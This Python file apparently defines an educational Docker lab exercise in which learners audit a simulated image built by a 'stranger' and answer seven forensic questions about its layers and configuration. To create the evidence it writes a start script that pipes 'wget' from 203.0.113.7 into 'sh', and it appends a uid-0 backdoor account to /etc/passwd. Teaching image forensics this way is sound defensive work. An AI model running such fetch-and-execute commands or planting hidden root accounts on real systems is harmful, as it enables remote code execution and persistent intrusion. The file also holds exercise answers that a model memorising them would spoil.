"""Task 6, the boss: what did a stranger put into an image that was made by commit?"""

from __future__ import annotations

import shlex
from collections.abc import Sequence
from dataclasses import dataclass, replace
from functools import cache

from dockerlab.errors import LabError
from dockerlab.exercises.answers import wants
from dockerlab.exercises.exercise import Case, Exercise, Variant
from dockerlab.exercises.questions import Question, judged, listed, truths
from dockerlab.image import Image
from dockerlab.inode import File, read
from dockerlab.lab import Lab
from dockerlab.layer import Layer, Whiteout
from dockerlab.reference import parse
from dockerlab.store import Store

__all__ = ["EXERCISE", "questions", "stranger"]

NAME = "stranger/tool:1.0"
BASES = ("alpine:3.22", "alpine:3.23")
SHAPE = (
    'a dictionary: {"base": "alpine:3.23", "commits": 2, "variable": …, "account": …, "deleted": …, "hidden": …, '
    '"command": …}'
)


@dataclass(frozen=True)
class Deed:
    """What a learner's stranger did."""

    base: str
    variable: str
    account: str
    deleted: str
    hidden: str
    script: str
    rounds: int


def deed(variant: Variant) -> Deed:
    """Draw it."""
    key = variant.pick("key", ["id_rsa", "id_ed25519", "deploy.key"])
    return Deed(
        variant.pick("base", BASES),
        variant.pick("variable", ["API_KEY", "DB_PASSWORD", "AWS_SECRET"]),
        variant.pick("account", ["support", "backup", "toor", "service"]),
        variant.pick("deleted", ["/etc/securetty", "/etc/issue", "/etc/modules", "/etc/shells"]),
        f"/srv/.ssh/{key}",
        variant.pick("script", ["/usr/local/bin/start.sh", "/opt/run.sh", "/srv/tool.sh"]),
        variant.number("rounds", 2, 4),
    )


@cache
def made(what: Deed) -> Store:
    """Do it in the model, commit after commit; return a store with no more than the image and the possible bases."""
    lab, current = Lab(), what.base
    rounds = [
        [f"mkdir /srv/.ssh; echo PRIVATE KEY > {what.hidden}", f"rm {what.deleted}"],
        [f"rm {what.hidden}", f"echo {what.account}:x:0:0::/root:/bin/sh >> /etc/passwd"],
        ["echo 'nothing to see' > /srv/readme.txt"],
        ["echo hello > /srv/hello.txt"],
    ][: what.rounds]
    folder = what.script.rpartition("/")[0]
    script = "#!/bin/sh\\nwget -q -O - http://203.0.113.7/x | sh\\n"
    rounds[-1].append(f"mkdir -p {folder}; printf '{script}' > {what.script}; chmod 755 {what.script}")
    for n, commands in enumerate(rounds):
        lab.run(f"docker run -d --name c{n} -e {what.variable}=hunter2 {current} sleep infinity")
        for command in commands:
            lab.run(f"docker exec c{n} sh -c {shlex.quote(command)}")
        current = f"round:{n}"
        lab.run(f"docker commit --change 'CMD [\"{what.script}\"]' c{n} {current}")
    store = Store()
    for name in BASES:
        image = lab.engine.image(name)
        store = store.with_image(image).tag(parse(name), image.id, lab.engine.clock.stamp())
    final = replace(lab.engine.store.resolve(current), parent=None)  # as after a pull: no image of the rounds is here
    return store.with_image(final).tag(parse(NAME), final.id, lab.engine.clock.stamp())


def stranger(variant: Variant) -> Lab:
    """Return a host with the stranger's image and the bases that it may stand on."""
    lab = Lab()
    lab.engine.store = made(deed(variant))
    return lab


# -- what the image itself tells ------------------------------------------------


def base_of(store: Store, image: Image) -> tuple[str, Image]:
    """Return the name of the base whose layers are the image's lowest, and the base."""
    bases = ((name, store.resolve(name)) for name in BASES)
    return next((name, base) for name, base in bases if image.layers[: len(base.layers)] == base.layers)


def roots(image: Image) -> list[str]:
    """Return the accounts with the number 0."""
    node = image.filesystem.lookup("/etc/passwd")
    assert isinstance(node, File)
    rows = [row.split(":") for row in read(node.content).decode().splitlines()]
    return [row[0] for row in rows if len(row) > 2 and row[2] == "0"]


def gone(layers: Sequence[Layer], image: Image, base: Image) -> tuple[str, str]:
    """Return the file of the base that was deleted, and the key that lies in a layer and is seen no more."""
    holds = [(path, entry) for layer in layers for path, entry in layer]
    deleted = next(path for path, entry in holds if isinstance(entry, Whiteout) and base.filesystem.exists(path))
    hidden = next(
        path
        for path, entry in holds
        if isinstance(entry, File) and b"PRIVATE KEY" in read(entry.content) and not image.filesystem.exists(path)
    )
    return deleted, hidden


@cache
def facts(what: Deed) -> dict[str, Question]:
    """Return the questions, each with what the image tells."""
    store = made(what)
    image = store.resolve(NAME)
    name, base = base_of(store, image)
    own = image.layers[len(base.layers) :]
    variable = next(entry.partition("=")[0] for entry in image.config.env if entry not in base.config.env)
    account = next(name for name in roots(image) if name not in roots(base))
    deleted, hidden = gone(own, image, base)
    command = " ".join(image.config.cmd or ())
    layers = f"it has {len(image.layers)} layers, {len(base.layers)} of them those of {name}"
    return {
        "base": Question("which of the images on this host does it stand on?", name, layers, ""),
        "commits": Question("how many layers were committed on top of that?", len(own), layers, "M8"),
        "variable": Question("which variable carries a secret, from a docker run -e?", variable,
                             f"docker inspect shows {variable} in Config.Env", "M9"),
        "account": Question("which account was added that is root under another name?", account,
                            f"/etc/passwd has {account} with the number 0", ""),
        "deleted": Question("which file of the base was deleted?", deleted,
                            f"a layer holds a whiteout for {deleted}", "M1"),
        "hidden": Question("where is a private key that a later commit removed, and everybody can still read?", hidden,
                           f"{hidden} lies whole in a lower layer", "M9"),
        "command": Question("what does docker run start in a container of it?", command,
                            f"docker inspect shows {command} in Config.Cmd", ""),
    }  # fmt: skip


def questions(variant: Variant) -> dict[str, Question]:
    """Return the questions on a learner's image."""
    return facts(deed(variant))


def written_plainly(given: dict[object, object], store: Store) -> dict[object, object]:
    """Return an answer with other ways to write the same taken for it: ``NAME=value``, a list, a path without slash."""
    plain = dict(given)
    for name in ("variable", "account"):
        if isinstance(said := plain.get(name), str):
            plain[name] = said.strip().strip("$").partition("=")[0].partition(":")[0]
    for name in ("deleted", "hidden"):
        if isinstance(said := plain.get(name), str):
            plain[name] = "/" + said.strip().lstrip("/")
    if isinstance(said := plain.get("command"), list) and all(isinstance(word, str) for word in said):
        plain["command"] = " ".join(said)
    if isinstance(said := plain.get("base"), str):
        plain["base"] = plain_base(said.strip(), store)
    return plain


def plain_base(said: str, store: Store) -> str:
    """Return the short name of a base, however it is named: with its registry, by its ID."""
    try:
        found = store.find(said)
    except LabError:
        return said
    return next((name for name in BASES if found is not None and store.resolve(name) == found), said)


def check(answer: object, variant: Variant) -> Sequence[Case]:
    """Seven findings, each read from the image."""
    given = written_plainly(wants(answer, dict, SHAPE), made(deed(variant)))
    return judged(given, questions(variant), SHAPE)


def task(variant: Variant) -> str:
    """Return the questions, and how the image looks from outside."""
    seen = stranger(variant).run("docker images")
    return f"{seen}\n\n{listed(questions(variant))}"


EXERCISE = Exercise(
    id="05.audit",
    title="Boss: a stranger's image",
    points=20,
    task=task,
    check=check,
    answer=lambda variant: truths(questions(variant)),
    why="No row of the history tells of any of it. But an image cannot hide its bytes: the layers hold what was added, "
    "a whiteout for what was deleted, and whole what a later layer removed; the configuration holds the variables and "
    "the command. What you cannot find out is why, and how to make it again: for that, ask for the Dockerfile.",
    hints=(
        "An image is layers and a configuration: look into both. docker history will not help.",
        "docker inspect shows Env, Cmd and the layers; the ImageExplorer shows what each layer holds.",
        "Compare RootFS.Layers with those of the two alpines; look at Config.Env and Config.Cmd; then choose each "
        "upper layer in the explorer and look for /etc/passwd, a deleted file, and a key that a layer above deletes.",
    ),
    shape=SHAPE,
    misconceptions=("M9", "M1", "M8"),
)
